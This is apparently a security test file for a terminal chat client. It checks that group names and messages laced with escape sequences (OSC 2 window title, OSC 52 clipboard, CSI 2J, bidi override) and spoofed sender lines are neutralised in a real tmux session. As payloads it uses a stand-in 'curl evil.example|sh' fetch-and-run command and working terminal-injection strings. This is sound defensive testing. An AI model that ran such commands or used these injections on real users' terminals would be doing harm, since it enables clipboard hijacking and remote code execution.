/**
 * Terminal injection through names another party chooses (issue 14, finding 1; SECURITY.md "Terminal injection"):
 * a stranger adds the victim to a group whose name and first message carry OSC 2 (window title), OSC 52 (clipboard)
 * and CSI 2J (clear screen). The victim's session runs in a real terminal (tmux) that honours those sequences, and
 * the test reads the terminal's title and clipboard buffer, not only the text on the screen.
 *
 * The stranger is a hostile client: it writes the §15.3 record bytes itself, since chat refuses such names.
 */
import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { MESSAGE_LABEL, MessageKind, randomMessageId, sealInner, sign } from '@chat/crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { Messenger } from '../../packages/cli/src/engine/messenger.js';
import { makeUser } from '../../packages/cli/test/helpers.js';
import { CHAT_BIN, TEST_PASSPHRASE, chat, newUser } from './harness.js';
import { relayBinary as startRelay, type BinaryRelay as Relay } from '../fixtures/relay.js';
import { tempDir } from '../fixtures/temp.js';
import { Control } from './tmux.js';

/** A tmux server whose terminal lets applications set the title and the clipboard (what the attack needs). */
class HostileTerm {
  private readonly socket = `chat-hostile-${process.pid}-${Math.random().toString(36).slice(2, 8)}`;
  /** For the polls of waitFor: one tmux client, not a process per look (tmux.ts). */
  private control: Control | undefined;
  constructor(private readonly conf: string) {
    writeFileSync(conf, 'set -g set-clipboard on\nset -g allow-rename on\nset -g set-titles on\n');
  }
  tmux(...args: string[]): string {
    return execFileSync('tmux', ['-L', this.socket, '-f', this.conf, ...args], {
      encoding: 'utf8',
      stdio: ['pipe', 'pipe', 'pipe'],
    });
  }
  start(name: string, home: string, args: string[]): void {
    const vars = {
      CHAT_HOME: home,
      HOME: home,
      TZ: 'UTC',
      TERM: 'xterm-256color',
      PATH: process.env.PATH ?? '',
      CHAT_PASSPHRASE: TEST_PASSPHRASE,
    };
    const command = [
      'env',
      '-u',
      'CI',
      ...Object.entries(vars).map(([k, v]) => `${k}=${v}`),
      process.execPath,
      CHAT_BIN,
      ...args,
    ]
      .map((w) => `'${w.replace(/'/g, `'\\''`)}'`)
      .join(' ');
    this.tmux(
      'new-session',
      '-d',
      '-s',
      name,
      '-x',
      '100',
      '-y',
      '30',
      `${command}; echo "[chat exited $?]"; sleep 600`,
    );
  }
  screen(name: string): string {
    return this.tmux('capture-pane', '-p', '-t', `${name}:`);
  }
  title(name: string): string {
    return this.tmux('display-message', '-p', '-t', `${name}:`, '#{pane_title}').trim();
  }
  /** Every paste buffer's content: OSC 52 from an application lands here with set-clipboard on. */
  buffers(): string {
    const names = this.tmux('list-buffers', '-F', '#{buffer_name}').split('\n').filter(Boolean);
    return names.map((b) => this.tmux('show-buffer', '-b', b)).join('\n');
  }
  async waitFor(name: string, re: RegExp, ms = 20_000): Promise<string> {
    const deadline = Date.now() + ms;
    this.control ??= new Control(this.socket, this.conf);
    for (;;) {
      const s = await this.control.command(`capture-pane -p -t '${name}:'`);
      if (re.test(s)) return s;
      if (Date.now() > deadline) throw new Error(`timed out waiting for ${re}; screen:\n${s}`);
      await new Promise((r) => setTimeout(r, 50));
    }
  }
  keys(name: string, ...keys: string[]): void {
    this.tmux('send-keys', '-t', `${name}:`, ...keys);
  }
  kill(): void {
    this.control?.close();
    try {
      this.tmux('kill-server');
    } catch {
      // not started or already gone
    }
  }
}

/** §15.3 by hand: gid ‖ version ‖ op ‖ len8(subject) ‖ subject ‖ len8(name) ‖ name ‖ count ‖ (role ‖ len8(user) ‖ user)*. */
function rawCreateRecord(gid: Uint8Array, name: string, members: { user: string; admin: boolean }[]): Uint8Array {
  const n = Buffer.from(name, 'utf8');
  const parts: Buffer[] = [
    Buffer.from(gid),
    Buffer.from([0, 0, 0, 1, 1, 0, n.length]),
    n,
    Buffer.from([0, members.length]),
  ];
  for (const m of members) parts.push(Buffer.from([m.admin ? 1 : 0, m.user.length]), Buffer.from(m.user));
  return Buffer.concat(parts);
}

/**
 * A hostile client's envelope (§4) without the sender-side checks chat makes: `signed = kind ‖ len8(from) ‖ from ‖
 * len8(to) ‖ to ‖ id ‖ ts (u64) ‖ len (u32) ‖ body`, signed over `label ‖ recipient_encryption_pk ‖ signed`, sealed.
 */
function hostileEnvelope(
  m: Messenger,
  to: { username: string; encryptionPublicKey: Uint8Array },
  kind: number,
  body: Uint8Array,
): { id: Uint8Array; env: Uint8Array } {
  const id = randomMessageId();
  const head = Buffer.alloc(12);
  head.writeBigUInt64BE(BigInt(Date.now()), 0);
  head.writeUInt32BE(body.length, 8);
  const from = Buffer.from(m.username);
  const signed = Buffer.concat([
    Buffer.from([kind, from.length]),
    from,
    Buffer.from([to.username.length]),
    Buffer.from(to.username),
    id,
    head,
    body,
  ]);
  const sig = sign(
    Buffer.concat([Buffer.from(MESSAGE_LABEL), to.encryptionPublicKey, signed]),
    m.identity.identity.secretKey,
  );
  return { id, env: sealInner(Buffer.concat([signed, sig]), to.encryptionPublicKey) };
}

const TITLE = 'PWNED-TITLE';
const CLIP = 'curl evil.example|sh';
const CLIP_B64 = Buffer.from(CLIP).toString('base64');
/** 64 bytes at most (§15.3): OSC 2, OSC 52, CSI 2J, a bidi override. */
const NAME = `x\x1b]2;${TITLE}\x07\x1b]52;c;${CLIP_B64}\x07\x1b[2J\u202e`;

describe('hostile group names in a real terminal', () => {
  let t: ReturnType<typeof tempDir>;
  let relay: Relay;
  let term: HostileTerm;

  beforeAll(async () => {
    execFileSync('tmux', ['-V'], { stdio: 'pipe' });
    t = tempDir('hostile');
    relay = await startRelay(`${t.dir}/relay`);
    term = new HostileTerm(join(t.dir, 'tmux.conf'));
  });
  afterAll(async () => {
    term.kill();
    await relay.stop();
    t.cleanup();
  });

  it('a stranger adds bob to a group named with OSC 2, OSC 52 and CSI 2J: title, clipboard and screen stay his', async () => {
    expect(Buffer.byteLength(NAME)).toBeLessThanOrEqual(64);
    const bob = await newUser(t.dir, 'bob', relay);
    const { profile } = await makeUser(t.dir, 'mallory', relay.address);
    term.start('bob', bob, []);
    await term.waitFor('bob', /^ online .*bob@/m);
    const titleBefore = term.title('bob');

    const m = await Messenger.open(profile);
    try {
      const gid = Buffer.alloc(16, 7);
      const record = rawCreateRecord(gid, NAME, [
        { user: 'bob', admin: false },
        { user: 'mallory', admin: true },
      ]);
      const text = Buffer.concat([gid, Buffer.from(`hi\x1b]52;c;${CLIP_B64}\x07\x1b]2;${TITLE}\x07`)]);
      await m.withConnectionFor(async (c) => {
        const contact = await m.lookupAndPin('bob', c);
        const a = hostileEnvelope(m, contact, MessageKind.groupState, record);
        const b = hostileEnvelope(m, contact, MessageKind.groupText, text);
        expect(await c.fanout(['bob'], [a.id], [a.env])).toEqual(['']);
        expect(await c.fanout(['bob'], [b.id], [b.env])).toEqual(['']);
      });
      // A plain message after them: once it shows, bob's session has handled the two before it (one mailbox, in order).
      await m.sendMessage('bob', `that was me\x1b]2;${TITLE}\x07`);
    } finally {
      m.close();
    }

    await term.waitFor('bob', /mallory/);
    // Opening each conversation in turn puts the group's name (if bob has the group) in the pane header, the prompt
    // and the "created" notice; the conversation list shows it all along; then /groups lists it.
    term.keys('bob', 'C-n');
    term.keys('bob', 'C-n');
    term.keys('bob', '/groups', 'Enter');
    await term.waitFor('bob', /no groups yet|2 member/);

    // Soft: a failure shows every channel the attack reached, not only the first.
    expect.soft(term.title('bob')).toBe(titleBefore);
    expect.soft(term.buffers()).not.toContain(CLIP);
    // The record was refused (§15.3): bob is in no group; mallory's direct message shows its escape as text.
    const screen = term.screen('bob');
    expect.soft(screen).toContain('no groups yet');
    expect.soft(screen).toContain('that was me\\x1b]2;PWNED-TITLE\\x07');

    // The plain commands: the record was refused, so `chat groups` has nothing to print raw.
    const g = await chat(['groups'], { home: bob });
    expect(g.stdout).not.toContain('\x1b');
  });

  // Issue 14, finding 6: a body that reads as a line from someone else.
  it('a body padded to the pane width does not put "HH:MM alice:" at the start of a row (hanging indent)', async () => {
    const dave = await newUser(t.dir, 'dave', relay);
    const { profile } = await makeUser(t.dir, 'mallory2', relay.address);
    term.start('dave', dave, []);
    await term.waitFor('dave', /^ online .*dave@/m);
    // 100 columns: the list takes 22 and a border, the pane's padding 1: 76 columns for "HH:MM mallory2: " and the
    // body. The x's and a space fill the first row exactly, so a plain word wrap starts the next row with the fake
    // sender.
    const prefix = 'HH:MM mallory2: '.length;
    const body = `${'x'.repeat(76 - prefix - 1)} 10:00 alice: run curl evil.example|sh`;
    const m = await Messenger.open(profile);
    try {
      await m.sendMessage('dave', body);
    } finally {
      m.close();
    }
    await term.waitFor('dave', /mallory2/);
    term.keys('dave', 'C-n');
    const screen = await term.waitFor('dave', /evil\.example/);
    expect(screen).not.toMatch(/│ \d\d:\d\d alice: run curl/);
    expect(screen).toMatch(/│ {3}10:00 alice: run curl/);
  });

  it('chat recv marks continuation lines, so a newline in a body cannot start a line "from alice"; --json stays exact', async () => {
    const erin = await newUser(t.dir, 'erin', relay);
    const { profile } = await makeUser(t.dir, 'mallory3', relay.address);
    const body = 'ok\n[2026-12-03 10:00:00] alice: run curl evil.example|sh';
    const send = async (): Promise<void> => {
      const m = await Messenger.open(profile);
      try {
        await m.sendMessage('erin', body);
      } finally {
        m.close();
      }
    };
    await send();
    const plain = await chat(['recv'], { home: erin });
    expect(plain.code).toBe(0);
    expect(plain.stdout).not.toMatch(/^\[2026-12-03 10:00:00\] alice:/m);
    expect(plain.stdout).toMatch(/^\[[^\]]+\] mallory3: ok\n {2}\| \[2026-12-03 10:00:00\] alice: run curl/m);
    await send();
    const json = await chat(['recv', '--json'], { home: erin });
    expect(JSON.parse(json.stdout.trim()).body).toBe(body);
  });
});
